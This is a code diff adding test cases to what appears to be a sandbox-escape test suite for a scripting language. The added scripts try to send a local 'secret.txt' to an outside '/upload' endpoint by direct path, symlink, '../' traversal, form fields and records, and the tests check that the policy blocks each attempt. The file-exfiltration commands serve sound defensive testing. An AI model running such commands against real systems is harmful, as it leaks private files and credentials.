@@ -172,6 +172,26 @@ extension WayOut {
       }, code: "E401", open: { policy, _ in policy.requestLabels = .any },
       escaped: { trial, _ in trial.values == ["fine"] }),
     WayOut(
+      name: "a file sent by a label",
+      script: {
+        "post \"\($0.outer.url("/upload"))\" file: \"\($0.folder.path)/secret.txt\" | text"
+      },
+      base: { policy, site in
+        policy.hosts.ports = nil
+        policy.hosts.allowedBlocks = AddressBlock.own
+        policy.files = Policy.Files(reading: ["/"])
+      }, code: "E401", open: { policy, _ in policy.requestLabels = .any }, escaped: gotSecret),
+    WayOut(
+      name: "a file sent by a function",
+      script: {
+        "post \"\($0.outer.url("/upload"))\" body: file(\"\($0.folder.path)/secret.txt\") | text"
+      },
+      base: { policy, site in
+        policy.hosts.ports = nil
+        policy.hosts.allowedBlocks = AddressBlock.own
+        policy.files = Policy.Files(reading: ["/"])
+      }, code: "E401", open: { policy, _ in policy.functions = .any }, escaped: gotSecret),
+    WayOut(
       name: "more memory by a label",
       script: { "fetch \"\($0.outer.url("/"))\" memory: 100GiB | text" },
       base: { policy, _ in
@@ -210,6 +230,20 @@ extension WayOut {
     .file(
       "files saved through a link", { _ in "[\"x\"] | save \"made.txt\", in: \"link\"" },
       escaped: { _, site in site.folder.text("beside/made.txt") != nil }),
+    .upload(
+      "a file sent as it is",
+      { "post \"\($0.outer.url("/upload"))\" body: file(\"../secret.txt\") | text" }),
+    .upload(
+      "a file sent through a link",
+      { "post \"\($0.outer.url("/upload"))\" file: \"link.txt\" | text" }),
+    .upload(
+      "a file sent as a part of a form",
+      { site in
+        "post \"\(site.outer.url("/upload"))\" multipart: {a: file(\"link/secret.txt\")} | text"
+      }),
+    .upload(
+      "a file sent by a record",
+      { "[{url: \"\($0.outer.url("/upload"))\", body: file(\"../secret.txt\")}] | fetch | text" }),
     .file(
       "failures written outside", { "['{}'] | json | .a | dead \"\($0.folder.path)/made.jsonl\"" },
       escaped: { _, site in site.folder.text("made.jsonl") != nil }),
